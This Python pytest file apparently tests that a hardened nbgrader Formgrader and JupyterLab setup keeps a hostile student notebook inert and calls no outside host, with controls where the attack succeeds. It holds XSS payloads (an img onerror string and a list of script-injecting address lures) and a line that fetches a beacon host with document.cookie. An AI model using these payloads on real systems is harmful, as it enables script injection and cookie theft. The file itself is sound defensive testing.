"""Formgrader in a real browser, on a hand-in that means harm: it stays words, asks nobody, and works by keyboard.

Every name but 127.0.0.1 leads the browser to a trap that counts who calls. Each promise has a control: the same
page without our settings, where the attack works, so that these tests can fail.
"""

import contextlib
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import hostile
import pytest
from lab_server import ARGUMENTS, TOKEN, browser_path, lab_server
from peer_course import canonical
from peer_course.lab import launch

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
TASK = "07-writing-about-people"
ODD = "<img src=x onerror=\"window.taken=1\">"
SAYS_TAKEN = "window.taken || window.alerted || 0"


# Chromium calls its maker on its own account, whatever page is open.
BROWSERS_OWN = re.compile(r"(?:^|\.)(?:google|googleapis|gstatic|gvt1|google-analytics)\.com$")


class Trap:
    """A port that every name but our own leads to; it notes the names that were called."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.called = self.socket.getsockname()[1], []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self):
        with contextlib.suppress(OSError):
            while True:
                caller, _ = self.socket.accept()
                with caller, contextlib.suppress(OSError):
                    caller.settimeout(2)
                    # The name stands in clear in the first bytes: "Host: …" or the greeting of TLS.
                    # A browser opens connections in case it may need them; where nothing is sent, nothing was asked.
                    if said := caller.recv(4096):
                        names = re.findall(rb"(?:[a-z0-9-]+\.)+(?:com|example|org|net)", said)
                        self.called += [name.decode() for name in names[:1] or [b"somebody"]]

    def calls(self) -> list[str]:
        """Who was called since this was asked last."""
        called, self.called = self.called, []
        return [name for name in called if not BROWSERS_OWN.search(name)]


@pytest.fixture(scope="module")
def trap():
    made = Trap()
    yield made
    made.socket.close()


@pytest.fixture(autouse=True)
def nobody_called_yet(trap):
    """What an earlier test left behind does not count."""
    trap.calls()


@pytest.fixture(scope="module")
def trapped(browser, trap):
    """A browser to which every name of the internet is the trap."""
    rules = f"--host-resolver-rules=MAP * 127.0.0.1:{trap.port}, EXCLUDE 127.0.0.1"
    with contextlib.closing(browser.browser_type.launch(
            executable_path=browser_path(), headless=True, args=[*ARGUMENTS, rules])) as opened:
        yield opened


@pytest.fixture(scope="module")
def marked(tmp_path_factory):
    """A course with a hostile hand-in made ready by stock autograde, and the same one as it came."""
    root = tmp_path_factory.mktemp("formgrader") / "course"
    for part in ("source", "release"):
        shutil.copytree(ROOT / part / TASK, root / part / TASK)
    shutil.copy(ROOT / "nbgrader_config.py", root)
    released = json.loads((root / "release" / TASK / f"{TASK}.ipynb").read_text(encoding="utf-8"))
    hand_in = json.dumps(hostile.notebook(released))
    for learner in ("mallory", "as-it-came"):
        folder = root / "submitted" / learner / TASK
        folder.mkdir(parents=True)
        (folder / f"{TASK}.ipynb").write_text(hand_in, encoding="utf-8")
    env = os.environ | {"HOME": str(root.parent), "JUPYTER_CONFIG_DIR": str(root.parent / "none")}
    for words in (["generate_assignment", TASK], ["autograde", TASK], ["db", "student", "add", ODD]):
        subprocess.run([sys.executable, "-m", "nbgrader", *words], cwd=root, env=env, check=True, timeout=120,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    raw = root / "autograded" / "as-it-came" / TASK / f"{TASK}.ipynb"
    raw.chmod(0o644)
    raw.write_text(hand_in, encoding="utf-8")
    trick = root.parent / "trick"
    trick.mkdir()
    (trick / "nbgrader_config.py").write_text(hostile.SETTINGS)
    return SimpleNamespace(root=root, trick=trick)


@pytest.fixture(scope="module")
def teach(marked):
    """The tutor's server as `start.py teach` starts it."""
    with lab_server(marked.root, marked.root.parent / "home", profile="teach") as server:
        yield server


@pytest.fixture(scope="module")
def plain(marked):
    """The same server without our policy, our pages in front, and our stand-in for MathJax."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(launch, "settings", lambda profile, root: {"ServerApp": {"root_dir": str(root)}})
        patch.setattr(launch, "environment", lambda profile, env: env)
        with lab_server(marked.root, marked.root.parent / "plain", profile="teach",
                        env={"JUPYTER_PATH": ""}) as server:
            yield server


@contextlib.contextmanager
def window(trapped, server, **options):
    """A window that has signed in, and what went on in it: addresses asked for and scripts that broke off."""
    with contextlib.closing(trapped.new_context(**options)) as context:
        page = context.new_page()
        page.add_init_script("window.alert = () => { window.alerted = 1 }")
        page.broke, page.asked = [], []
        page.on("pageerror", lambda error: page.broke.append(str(error)))
        page.on("requestfinished", lambda request: page.asked.append(request.url))
        page.goto(f"http://127.0.0.1:{server.port}/formgrader/manage_assignments?token={TOKEN}")
        yield page


def submission(root: Path, learner: str) -> str:
    """The name that Formgrader gives a learner's notebook."""
    with sqlite3.connect(root / "gradebook.db") as book:
        return book.execute(
            "select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "
            "where a.student_id = ?", (learner,)).fetchone()[0]


def settle(page) -> None:
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)


def visit(page, server, *parts: str) -> None:
    path = "/".join(quote(part, safe="") for part in parts)
    page.goto(f"http://127.0.0.1:{server.port}/formgrader/{path}")
    settle(page)


def test_a_hostile_hand_in_stays_words_and_calls_nobody(trapped, trap, teach, marked):
    with window(trapped, teach) as page:
        visit(page, teach, "submissions", submission(marked.root, "mallory"), "")
        shown = page.locator("#notebook-container").last.inner_text()
        assert "words of a stranger" in shown and f"<script>{hostile.TAKE}</script>" in shown
        assert "{{ 7 * 7 }}" in shown and page.locator("h1", has_text="The end of the page").count() == 0
        assert page.locator("textarea.comment").count() == 2
        assert page.evaluate("document.querySelectorAll('#notebook-container :is(img,svg,iframe,object,form,style)').length") == 0
        links = page.evaluate("[...document.querySelectorAll('#notebook-container a')].map(a => a.protocol)")
        assert set(links) <= {"http:", "https:", "mailto:"}
        assert page.evaluate(SAYS_TAKEN) == 0
        assert all(address.startswith((f"http://127.0.0.1:{teach.port}/", "data:", "blob:")) for address in page.asked)
    assert trap.calls() == []


def test_control_the_same_hand_in_as_it_came_runs_in_the_page(trapped, teach, marked):
    with window(trapped, teach) as page:
        visit(page, teach, "submissions", submission(marked.root, "as-it-came"), "")
        assert page.evaluate(SAYS_TAKEN) > 1


def test_even_a_script_that_runs_calls_nobody_outside_and_without_the_policy_it_would(trapped, trap, teach, marked):
    name = submission(marked.root, "as-it-came")
    with window(trapped, teach) as page:
        visit(page, teach, "submissions", name, "")
        page.evaluate(f"fetch('http://{hostile.BEACON}/?' + document.cookie).catch(() => 0)")
        page.evaluate(f"new Image().src = 'http://{hostile.BEACON}/dot.png'; 0")
        settle(page)
    assert trap.calls() == []
    with window(trapped, teach, bypass_csp=True) as page:
        visit(page, teach, "submissions", name, "")
    assert hostile.BEACON in trap.calls()


def test_formgraders_pages_ask_nobody_else_and_their_scripts_do_not_break_off(trapped, trap, teach, marked):
    pages = [("manage_assignments",), ("manage_submissions", TASK), ("gradebook",), ("gradebook", TASK),
             ("gradebook", TASK, TASK), ("manage_students",), ("manage_students", "mallory"),
             ("manage_students", "mallory", TASK), ("submissions", submission(marked.root, "mallory"), "")]
    with window(trapped, teach) as page:
        for parts in pages:
            visit(page, teach, *parts)
            assert page.evaluate(SAYS_TAKEN) == 0, parts
        assert page.broke == []
    assert trap.calls() == []


def test_control_without_our_settings_formgrader_calls_outside_and_its_keys_do_not_work(trapped, trap, plain, marked):
    with window(trapped, plain) as page:
        visit(page, plain, "submissions", submission(marked.root, "mallory"), "")
        assert any("MathJax" in said for said in page.broke)
    assert "cdnjs.cloudflare.com" in trap.calls()


def test_a_comment_is_written_by_keyboard_saved_and_stays_words(trapped, teach, marked):
    name = submission(marked.root, "mallory")
    with window(trapped, teach) as page:
        visit(page, teach, "submissions", name, "")
        boxes = page.locator("textarea.comment")
        boxes.first.focus()
        page.keyboard.insert_text("kind words " + "".join(hostile.TEXTS))
        page.keyboard.press("Tab")
        settle(page)
        assert page.evaluate("document.activeElement.classList.contains('tabbable')")
        visit(page, teach, "submissions", name, "")
        assert boxes.first.input_value().startswith("kind words <script>")
        assert page.evaluate(SAYS_TAKEN) == 0


def test_a_name_with_signs_in_it_stays_a_name(trapped, teach):
    with window(trapped, teach) as page:
        visit(page, teach, "manage_students")
        assert ODD in page.locator("table").inner_text() and page.evaluate(SAYS_TAKEN) == 0
        visit(page, teach, "manage_students", ODD)
        assert page.evaluate(SAYS_TAKEN) == 0


LURES = ['x";alert(1);"', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\\\";alert(1)//"]


@pytest.mark.parametrize("lure", LURES)
def test_an_address_that_carries_a_script_is_no_page(trapped, teach, lure):
    with window(trapped, teach) as page:
        for parts in (("manage_students", lure), ("gradebook", lure), ("manage_submissions", lure),
                      ("manage_students", lure, TASK), ("gradebook", TASK, lure)):
            visit(page, teach, *parts)
            assert page.evaluate(SAYS_TAKEN) == 0, parts


def test_control_nbgraders_own_pages_run_a_script_that_an_address_carries(trapped, plain):
    with window(trapped, plain) as page:
        visit(page, plain, "manage_students", LURES[0])
        assert page.evaluate(SAYS_TAKEN) == 1


def test_a_link_cannot_make_formgrader_run_settings_from_another_folder(trapped, teach, plain, marked):
    ran = marked.trick / hostile.RAN_SETTINGS
    ran.unlink(missing_ok=True)
    for slash in ("", "/"):
        with window(trapped, teach) as page:
            page.goto(f"http://127.0.0.1:{teach.port}/formgrader{slash}?path={quote(str(marked.trick))}")
            settle(page)
            assert page.url.endswith("/formgrader/manage_assignments") and TASK in page.content()
    assert not ran.exists()
    with window(trapped, plain) as page:
        page.goto(f"http://127.0.0.1:{plain.port}/formgrader?path={quote(str(marked.trick))}")
    assert ran.exists(), "the control: nbgrader's own page does run them"


def test_jupyterlab_opens_with_the_policy_and_a_notebook_runs(trapped, trap, teach, marked):
    cell = {"cell_type": "code", "id": "a", "metadata": {}, "source": "6 * 7", "outputs": [], "execution_count": None}
    nb = {"cells": [cell], "metadata": {"kernelspec": canonical.KERNELSPEC}, "nbformat": 4, "nbformat_minor": 5}
    (marked.root / "try.ipynb").write_text(json.dumps(nb))
    with window(trapped, teach) as page:
        refused = []
        page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
        page.goto(teach.address("try.ipynb", "lab/tree"))
        page.wait_for_function("() => window.jupyterapp?.shell.currentWidget?.sessionContext?.isReady", timeout=60000)
        page.evaluate("void window.jupyterapp.commands.execute('notebook:run-all-cells')")
        page.wait_for_selector(".jp-OutputArea-output:has-text('42')", timeout=30000)
        assert refused == []
    assert trap.calls() == []


def test_formgrader_opens_in_a_tab_of_jupyterlab(trapped, teach):
    with window(trapped, teach) as page:
        page.goto(teach.address("", "lab"))
        page.wait_for_function("() => !!window.jupyterapp", timeout=60000)
        page.evaluate("window.jupyterapp.restored.then(() => window.jupyterapp.commands.execute('nbgrader:open-formgrader'))")
        frame = page.frame_locator("iframe").first
        frame.get_by_text(TASK).first.wait_for(timeout=30000)
        assert "Manage Assignments" in frame.locator("body").inner_text()
